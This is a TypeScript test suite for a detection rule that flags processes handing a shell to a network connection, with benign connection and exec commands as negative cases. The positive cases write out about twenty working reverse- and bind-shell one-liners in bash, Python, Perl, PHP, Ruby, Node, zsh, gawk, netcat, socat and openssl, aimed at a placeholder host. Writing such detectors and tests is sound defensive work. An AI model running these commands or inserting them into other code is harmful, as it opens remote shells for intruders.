import assert from 'node:assert/strict';
import { it } from 'node:test';
import { seen } from '../process-fixture.ts';
import warning from './shell-handed-out.ts';

const run = (program: string, ...words: string[]) =>
  seen(warning, { executable: `/usr/bin/${program}`, commandLine: [program, ...words] });

it('is a tool for connections that starts a shell', () => {
  assert.deepEqual(run('nc.traditional', '-lp', '7', '-e', '/bin/sh'), ['danger /bin/sh']);
  assert.deepEqual(run('ncat', '--sh-exec=bash', 'x', '1'), ['danger --sh-exec=bash']);
  const socat = "EXEC:'bash -i',pty,stderr";
  assert.deepEqual(run('socat', 'TCP:x:1', socat), [`danger ${socat}`]);
  assert.deepEqual(run('socat1', 'TCP-L:1,fork', 'SYSTEM:/bin/bash'), ['danger SYSTEM:/bin/bash']);
});

it('is BusyBox that is called as such a tool', () => {
  for (const words of [['nc'], ['busybox', 'nc']]) {
    const commandLine = [...words, '-lp', '7', '-e', 'sh'];
    const found = seen(warning, { executable: '/bin/busybox', commandLine });
    assert.deepEqual(found, ['danger sh']);
  }
});

it('is not one that passes data, nor another program that names a shell', () => {
  assert.deepEqual(run('socat', 'TCP-LISTEN:80,fork', 'UNIX:/run/x.sock'), []);
  assert.deepEqual(run('nc.openbsd', '-l', '7777'), []);
  assert.deepEqual(run('socat', 'TCP-L:1', 'EXEC:/usr/bin/report'), []);
  assert.deepEqual(run('env', 'bash'), []);
});

it('is a line of code that connects a shell, in any language', () => {
  const code = (program: string, ...words: string[]) => run(program, ...words).length;
  const python = 'import socket,os,pty;s=socket.socket();s.connect(("x",1));pty.spawn("sh")';
  const lines: [string, ...string[]][] = [
    ['python3', '-c', python],
    ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec("/bin/sh -i");'],
    ['perl', '-MIO', '-e', '$c=new IO::Socket::INET(PeerAddr,"x:1");system$_ while<>;'],
    ['php', '-r', '$s=fsockopen("x",1);exec("/bin/sh -i <&3 >&3 2>&3");'],
    ['ruby', '-rsocket', '-e', 'c=TCPSocket.new("x","1");while(l=c.gets);IO.popen(l,"r");end'],
    ['node', '-e', 'c=require("net").connect(1,"x");require("child_process").spawn("sh")'],
    ['lua5.3', '-e', 'local s=require("socket");local f=assert(io.popen(r,"r"))'],
    ['gawk', 'BEGIN {s="/inet/tcp/0/x/1";while(1){s |& getline c;while((c |& getline)>0);}}'],
    ['bash', '-c', 'mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc x 1 >/tmp/f'],
    ['php', '-r', '$s=fsockopen("x",1);`/bin/sh -i <&3 >&3 2>&3`;'],
    ['ruby', '-rsocket', '-e', 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("x",1))'],
    ['bash', '-c', 'exec 5<>/dev/tcp/x/1;cat <&5 | while read l; do $l 2>&5 >&5; done'],
    ['bash', '-c', 'nohup bash -i >& /dev/tcp/x/1 0>&1 &'],
    ['bash', '-c', '0<&196;exec 196<>/dev/tcp/x/1; sh <&196 >&196 2>&196'],
    ['zsh', '-c', 'zmodload zsh/net/tcp && ztcp x 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'],
    ['sh', '-c', 'mkfifo /run/s; sh -i </run/s 2>&1|openssl s_client -connect x:1 >/run/s'],
  ];
  for (const line of lines) assert.equal(code(...line), 1, line.join(' '));
});

it('is not a line that connects, or one that runs something, alone', () => {
  const lines: [string, ...string[]][] = [
    ['python3', '-c', 'import socket; socket.create_connection(("db", 5432))'],
    ['python3', '-c', 'import subprocess; subprocess.run(["ls"])'],
    ['python3', '/srv/socket-server.py', '--run', 'subprocess'],
    ['node', '-e', 'require("child_process").spawn("tsc", ["-w"])'],
    ['php', '-r', 'exec("/bin/sh backup.sh");'],
    ['bash', '-c', 'until nc -z db 5432; do sleep 1; done; exec bash run.sh'],
    ['bash', '-c', 'exec 3<>/dev/tcp/localhost/8080; cat <&3'],
    ['bash', '-c', 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; sh run.sh'],
    ['bash', '-c', 'while read h; do echo > "/dev/tcp/$h/22" && echo "$h"; done < hosts'],
    ['ruby', '-rsocket', '-e', 'TCPSocket.new("x",1); exec("publish")'],
    ['sh', '-c', 'mkfifo /run/log; cat /run/log & exec nginx'],
    ['gawk', '{ "date" |& getline now; print now }'],
  ];
  for (const line of lines) assert.deepEqual(run(...line), [], line.join(' '));
});
